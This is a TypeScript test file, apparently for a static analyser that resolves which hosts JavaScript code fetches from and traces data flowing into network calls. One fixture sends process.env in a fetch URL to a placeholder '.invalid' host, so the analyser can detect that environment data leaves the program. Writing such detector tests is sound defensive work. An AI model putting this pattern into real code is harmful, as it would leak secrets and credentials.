import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines } from '../../../../test/behave.ts';

const asked = (code: string): string[] =>
  behaviourOf({ 'index.js': code }).effects.flatMap(({ kind, target }) => (kind === 'connects' ? [target] : []));

describe('a tag of a template is given its texts and its values', () => {
  for (const [what, made] of [
    ['woven by the language', 'String.raw(texts, ...values)'],
    ['woven by the language, as an object', 'String.raw({ raw: texts }, ...values)'],
    ['joined', `texts.map((text, at) => text + (at < values.length ? values[at] : '')).join('')`],
  ] as const)
    it(`${what}: what they say`, () =>
      assert.deepEqual(asked(`const ask = (texts, ...values) => fetch(${made}); ask\`https://\${'a'}.invalid/\${'b'}\`;`), [
        'https://a.invalid/b',
      ]));

  it('the language itself: what the whole says', () =>
    assert.deepEqual(asked('const host = `a`; fetch(String.raw`https://${host}.invalid/`);'), ['https://a.invalid/']));

  it('what comes out of a list by the number of each text comes from all of it', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `const ask = (texts, ...values) => fetch(texts.map((text, at) => text + (at < values.length ? encodeURIComponent(values[at]) : '')).join('')); let all = ''; try { all = process.env; } catch {} ask\`https://a.invalid/\${'b'}?\${all}\`;`,
      }),
      ['process.env → fetch as target'],
    ));
});

it('a rest parameter is a list, however often a function of letters asks for one of it', () =>
  assert.deepEqual(
    asked(
      `const ask = (at, ...hosts) => fetch(['https://'].map((text, n) => text + hosts[n]).join('')); ask(1, 'a.invalid', 'b.invalid');`,
    ),
    ['https://a.invalid'],
  ));
